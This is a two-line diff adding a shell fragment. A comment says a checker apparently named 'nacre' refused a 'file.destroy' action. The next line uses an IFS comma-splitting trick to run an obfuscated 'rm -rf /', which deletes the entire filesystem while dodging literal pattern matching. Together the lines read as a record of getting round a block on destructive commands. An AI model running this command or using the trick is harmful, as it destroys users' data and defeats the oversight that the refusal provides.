@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+IFS=,; x=rm,-rf,/; $x
